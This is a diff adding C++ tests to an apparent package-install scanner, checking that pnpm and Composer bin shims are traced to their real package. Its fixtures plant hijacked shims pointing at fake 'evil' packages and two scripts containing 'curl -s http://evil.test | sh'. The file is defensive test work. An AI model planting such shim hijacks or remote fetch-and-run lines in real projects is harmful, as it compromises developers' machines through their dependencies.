@@ -5,6 +5,7 @@
 #include <unistd.h>
 
 #include <catch2/catch.hpp>
+#include <map>
 
 #include "runner/fs/deep_glob.h"
 #include "runner/fs/digest.h"
@@ -421,4 +422,88 @@ TEST_CASE(
   CHECK(findings[0].path == "vendor/composer/autoload_static.php");
   CHECK(findings[0].severity == Severity::high);
   CHECK(findings[0].detail.find("vendor/acme/boot/src/payload.php") != std::string::npos);
+}
+
+namespace {
+
+std::string bin_shim_fixture(const std::string& name) {
+  return read_file(std::string(SAFEINSTALL_TEST_FIXTURES) + "/bin-shims/" + name);
+}
+
+std::map<std::string, Finding> findings_by_path(const std::vector<Finding>& findings) {
+  std::map<std::string, Finding> by_path;
+  for (const auto& f : findings) by_path[f.path] = f;
+  return by_path;
+}
+
+}  // namespace
+
+TEST_CASE("auto-run findings: pnpm's .bin shims are read for their target like links") {
+  Staged s;
+  const std::string store = "node_modules/.pnpm/typescript@5.3.3/node_modules/typescript";
+  write_file(s.upper + "/" + store + "/package.json",
+             R"({"name":"typescript","version":"5.3.3","bin":{"tsc":"./bin/tsc"}})");
+  write_file(s.upper + "/" + store + "/bin/tsc", "#!/usr/bin/env node\n");
+  write_file(s.upper + "/node_modules/si-evil/package.json",
+             R"({"name":"si-evil","version":"6.6.6"})");
+  write_file(s.upper + "/node_modules/si-evil/payload.js", "#!/usr/bin/env node\n");
+  REQUIRE(::symlink(".pnpm/typescript@5.3.3/node_modules/typescript",
+                    (s.upper + "/node_modules/typescript").c_str()) == 0);
+  const std::string shim = bin_shim_fixture("pnpm-cmd-shim-9-tsc");
+  // Through the package's link, and straight into the store.
+  write_file(s.upper + "/node_modules/.bin/tsc", shim, 0755);
+  std::string into_store = shim;
+  for (auto at = into_store.find("/../typescript/"); at != std::string::npos;
+       at = into_store.find("/../typescript/"))
+    into_store.replace(at, 15, "/../.pnpm/typescript@5.3.3/node_modules/typescript/");
+  write_file(s.upper + "/node_modules/.bin/tsc-store", into_store, 0755);
+  // The same shim leading into a package that declares no such bin, or with a line more.
+  std::string hijack = shim;
+  for (auto at = hijack.find("typescript/bin/tsc"); at != std::string::npos;
+       at = hijack.find("typescript/bin/tsc"))
+    hijack.replace(at, 18, "si-evil/payload.js");
+  write_file(s.upper + "/node_modules/.bin/eslint", hijack, 0755);
+  write_file(s.upper + "/node_modules/.bin/prettier", shim + "curl -s http://evil.test | sh\n",
+             0755);
+  auto by_path = findings_by_path(s.findings("pnpm"));
+  CHECK_FALSE(by_path.count("node_modules/.bin/tsc"));
+  // Into pnpm's store: a package of this node_modules, which declares the bin as tsc only.
+  REQUIRE(by_path.count("node_modules/.bin/tsc-store"));
+  CHECK(by_path["node_modules/.bin/tsc-store"].package == "typescript@5.3.3");
+  REQUIRE(by_path.count("node_modules/.bin/eslint"));
+  CHECK(by_path["node_modules/.bin/eslint"].package == "si-evil@6.6.6");
+  CHECK(by_path["node_modules/.bin/eslint"].severity == Severity::high);
+  REQUIRE(by_path.count("node_modules/.bin/prettier"));
+  CHECK(by_path["node_modules/.bin/prettier"].detail.find("neither a link nor a package "
+                                                          "manager's shim") != std::string::npos);
+  CHECK(by_path.size() == 3);
+}
+
+TEST_CASE("auto-run findings: Composer's vendor/bin proxies lead to a bin their package lists") {
+  Staged s;
+  write_file(s.upper + "/vendor/acme/tool/composer.json",
+             R"({"name":"acme/tool","bin":["bin/tool","bin/shtool"]})");
+  write_file(s.upper + "/vendor/acme/tool/bin/tool", "#!/usr/bin/env php\n<?php\n", 0755);
+  write_file(s.upper + "/vendor/acme/tool/bin/shtool", "#!/bin/sh\n", 0755);
+  write_file(s.upper + "/vendor/evil/x/composer.json", R"({"name":"evil/x"})");
+  write_file(s.upper + "/vendor/evil/x/payload.php", "<?php\n", 0755);
+  const std::string php = bin_shim_fixture("composer-2.5.5-php-proxy");
+  write_file(s.upper + "/vendor/bin/tool", php, 0755);
+  write_file(s.upper + "/vendor/bin/shtool", bin_shim_fixture("composer-2.5.5-sh-proxy"), 0755);
+  std::string hijack = php;
+  for (auto at = hijack.find("acme/tool/bin/tool"); at != std::string::npos;
+       at = hijack.find("acme/tool/bin/tool"))
+    hijack.replace(at, 18, "evil/x/payload.php");
+  write_file(s.upper + "/vendor/bin/phpunit", hijack, 0755);
+  write_file(s.upper + "/vendor/bin/phpstan", "#!/bin/sh\ncurl -s http://evil.test | sh\n", 0755);
+  REQUIRE(::symlink("../acme/tool/bin/tool", (s.upper + "/vendor/bin/tool-link").c_str()) == 0);
+  auto by_path = findings_by_path(s.findings("composer"));
+  CHECK_FALSE(by_path.count("vendor/bin/tool"));
+  CHECK_FALSE(by_path.count("vendor/bin/shtool"));
+  CHECK_FALSE(by_path.count("vendor/bin/tool-link"));
+  REQUIRE(by_path.count("vendor/bin/phpunit"));
+  CHECK(by_path["vendor/bin/phpunit"].package == "evil/x");
+  CHECK(by_path["vendor/bin/phpunit"].severity == Severity::high);
+  CHECK(by_path.count("vendor/bin/phpstan"));
+  CHECK(by_path.size() == 2);
 }
